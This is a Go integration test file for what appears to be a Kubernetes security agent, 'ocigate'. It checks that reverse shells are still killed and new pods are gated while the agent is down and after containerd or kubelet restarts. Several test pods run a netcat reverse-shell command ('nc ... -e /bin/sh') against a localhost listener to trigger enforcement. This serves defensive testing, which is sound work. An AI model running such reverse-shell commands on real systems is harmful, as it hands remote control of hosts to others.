package k8s

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ocigate/ocigate/internal/testenv/peer"
)

// agentDown takes the agent off the node (a nodeSelector nothing
// matches) and returns the function that brings it back.
func agentDown(t *testing.T) func() {
	t.Helper()
	kubectl(t, "", "-n", cluster.ns, "patch", "daemonset/ocigate", "--type=merge", "-p",
		`{"spec":{"template":{"spec":{"nodeSelector":{"`+cluster.prefix+`/no-such-node":"x"}}}}}`)
	eventually(t, 60*time.Second, "agent pod gone", func() error {
		out, _ := kubectlErr("", "-n", cluster.ns, "get", "pods", "-o", "name")
		if strings.TrimSpace(out) != "" {
			return fmt.Errorf("still there: %s", out)
		}
		return nil
	})
	return func() {
		kubectl(t, "", "-n", cluster.ns, "patch", "daemonset/ocigate", "--type=json", "-p",
			`[{"op":"remove","path":"/spec/template/spec/nodeSelector"}]`)
		kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
	}
}

// TestAgentGoneKeepsEnforcementAndNoDeadlock: with the agent pod gone,
// a running pod's reverse shell is still killed (the pinned programs
// and maps stay); the node's gate (ocigate-hook --nri-gate in
// containerd's base runtime spec) refuses a new pod, naming its
// namespace, and lets pods of the exempt namespaces start without any
// annotation: kube-system (the gate's own list) and one the chart's
// exemptNamespaces adds (the file ocigate-kube left on the host); the
// agent's own pod starts nevertheless, takes the running pod over, and
// the refused pod starts at the kubelet's next try.
func TestAgentGoneKeepsEnforcementAndNoDeadlock(t *testing.T) {
	ns := namespace(t, cluster.prefix+"-down")
	exempt := namespace(t, cluster.prefix+"-exempt")
	l := listen(t, "127.0.0.1:0")
	trigger := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.Port())
	kubectl(t, podSpec{ns: ns, name: "waiting", image: "busybox", shell: "/bin/sh", hostNetwork: true, script: trigger}.manifest(), "apply", "-f", "-")
	kubectl(t, podSpec{ns: ns, name: "survivor", image: "busybox", shell: "/bin/sh", script: "sleep 3600"}.manifest(), "apply", "-f", "-")
	kubectl(t, "", "-n", ns, "wait", "--for=condition=Ready", "pod/waiting", "pod/survivor", "--timeout=60s")
	id := strings.TrimPrefix(kubectl(t, "", "-n", ns, "get", "pod", "survivor", "-o", "jsonpath={.status.containerStatuses[0].containerID}"), "containerd://")
	up := agentDown(t)
	restored := false
	defer func() {
		if !restored {
			up()
		}
	}()
	killedWhileDown(t, ns, l)
	// Refused at its start by the gate; OnFailure: the kubelet tries
	// again, with its back-off, until the agent is back.
	kubectl(t, podSpec{ns: ns, name: "refused", image: "busybox", shell: "/bin/sh", script: "echo started",
		restartPolicy: "OnFailure"}.manifest(), "apply", "-f", "-")
	var refusal string
	eventually(t, 60*time.Second, "the new pod is refused", func() error {
		refusal = kubectl(t, "", "-n", ns, "get", "pod", "refused", "-o", "jsonpath={.status.containerStatuses[0]}")
		if !strings.Contains(refusal, "ocigate-hook") || !strings.Contains(refusal, "is not exempt") || !strings.Contains(refusal, ns) {
			return fmt.Errorf("container status %s", refusal)
		}
		return nil
	})
	t.Logf("refused while the agent is down: %s", refusal)
	for _, n := range []string{"kube-system", exempt} {
		name := cluster.prefix + "-exempt-while-down"
		t.Cleanup(func() { _, _ = kubectlErr("", "-n", n, "delete", "pod", name, "--wait=false") })
		if code, logs := run(t, podSpec{ns: n, name: name, image: "busybox", shell: "/bin/sh", script: "echo started"}); code != 0 || !strings.Contains(logs, "started") {
			t.Errorf("namespace %s is exempt, yet its pod did not start while the agent is down: exit %d, %q", n, code, logs)
		}
	}
	up()
	restored = true
	eventually(t, 180*time.Second, "the refused pod starts once the agent is back", func() error {
		out := kubectl(t, "", "-n", ns, "get", "pod", "refused", "-o", "jsonpath={.status.phase}")
		if out != "Succeeded" {
			return fmt.Errorf("phase %q", out)
		}
		return nil
	})
	st := kubectl(t, "", "-n", cluster.ns, "exec", "daemonset/ocigate", "-c", "agent", "--",
		"/ocigate-agentd", "status", "-o", "json", "--socket="+cluster.runDir+"/agentd.sock")
	if !strings.Contains(st, id) {
		t.Errorf("the new agent does not list the running pod's container %s:\n%s", id, st)
	}
}

// killedWhileDown: the waiting pod's reverse shell, triggered now that
// the agent is gone, is killed all the same.
func killedWhileDown(t *testing.T, ns string, l *peer.Listener) {
	t.Helper()
	kubectl(t, "", "-n", ns, "exec", "waiting", "--", "touch", "/tmp/go")
	eventually(t, 30*time.Second, "the reverse shell ends", func() error {
		code := kubectl(t, "", "-n", ns, "get", "pod", "waiting", "-o", "jsonpath={.status.containerStatuses[0].state.terminated.exitCode}")
		if code == "" {
			return fmt.Errorf("running")
		}
		return nil
	})
	logs := kubectl(t, "", "-n", ns, "logs", "waiting")
	if !strings.Contains(logs, "rc=137") || answered(l) {
		t.Errorf("with the agent gone the reverse shell was not killed: %q", logs)
	}
}

// TestRuntimeRestartsWhileDaemonSetExists restarts containerd, then the
// kubelet, with the DaemonSet in place: the agent's pod comes back ready
// (its NRI plugin reconnects), new pods start, and a reverse shell
// started after each restart is still killed.
func TestRuntimeRestartsWhileDaemonSetExists(t *testing.T) {
	root, _ := filepath.Abs("../..")
	ns := namespace(t, cluster.prefix+"-restarts")
	l := listen(t, "127.0.0.1:0")
	for _, what := range []string{"containerd", "kubelet"} {
		out, err := exec.Command(filepath.Join(root, "scripts/k8s-cluster.sh"), "restart", os.Getenv("K8S_DIR"), what).CombinedOutput()
		if err != nil {
			t.Fatalf("restart %s: %v\n%s", what, err, out)
		}
		kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
		eventually(t, 60*time.Second, "agent ready after the "+what+" restart", func() error {
			ready := kubectl(t, "", "-n", cluster.ns, "get", "pods", "-o", "jsonpath={.items[*].status.containerStatuses[*].ready}")
			if ready != "true true" {
				return fmt.Errorf("ready %q", ready)
			}
			return nil
		})
		code, _ := run(t, podSpec{ns: ns, name: "after-" + what, image: "busybox", shell: "/bin/sh", script: "echo started"})
		if code != 0 {
			t.Errorf("after the %s restart a plain pod exited %d", what, code)
		}
		_, logs := run(t, podSpec{ns: ns, name: "revshell-after-" + what, image: "busybox", shell: "/bin/sh", hostNetwork: true,
			script: fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.Port())})
		if !strings.Contains(logs, "rc=137") {
			t.Errorf("after the %s restart the reverse shell was not killed: %q", what, logs)
		}
	}
	if answered(l) {
		t.Errorf("a shell answered the listener")
	}
}
